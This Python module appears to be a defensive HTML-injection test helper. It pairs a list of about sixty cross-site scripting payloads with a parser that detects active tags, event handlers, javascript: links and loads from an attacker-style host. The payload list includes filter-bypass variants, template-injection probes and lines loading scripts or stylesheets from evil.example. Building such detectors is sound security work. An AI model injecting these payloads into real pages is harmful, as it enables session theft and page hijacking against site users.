"""Sixty ways to write a script, a frame or a link that acts into a text, and how to see one."""

import re
from html.parser import HTMLParser

JS = "javascript:alert(1)"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script/x>alert(1)</script\x20>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror='alert(1)'",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' target=_blank onclick=alert(1)>x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<x onmouseover=alert(1) style=display:block>x</x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "javascript:alert(1)//",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{0.__class__}%s%(x)s",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
)  # fmt: skip
_FORBIDDEN = {
    "script", "iframe", "object", "embed", "form", "meta", "link", "base", "style", "svg", "math",
    "audio", "video", "template", "noscript", "body", "x", "marquee",
}  # fmt: skip
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster"}
_SCHEMES = re.compile(r"(https?|mailto|tel):|/(?![/\\])|#|\?|cid:|data:image/(png|jpeg);base64,")

_ELSEWHERE = re.compile(r"(https?:)?//[^/]*evil\.example")
_OUR_FORM = {"method": "post", "action": "/session/end"}


class _Acting(HTMLParser):
    def __init__(self, allowed):
        super().__init__()
        self.found, self.words, self._allowed = [], [], allowed

    def handle_starttag(self, tag, attrs):
        ours = tag == "form" and dict(attrs) == _OUR_FORM
        if tag in _FORBIDDEN - self._allowed and not ours:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def _look_at(self, tag, name, value):
        acts = name.startswith("on") or name in {"srcdoc", "formaction", "xlink:href"}
        leads = name in _ADDRESSES and (not _SCHEMES.match(value) or _ELSEWHERE.match(value))
        loads = name == "style" and re.search(r"url\(|position|expression|@import", value)
        if acts or leads or loads:
            self.found.append(f"<{tag} {name}={value}>")

    def handle_data(self, data):
        self.words.append(data)


def acting(markup, *, allowed=frozenset()):
    """Whatever in this markup would run, load or lead elsewhere."""
    reader = _Acting(allowed)
    reader.feed(markup)
    reader.close()
    return reader.found


def words_of(markup):
    """What a reader of this markup reads."""
    reader = _Acting(frozenset())
    reader.feed(markup)
    reader.close()
    return "".join(reader.words)
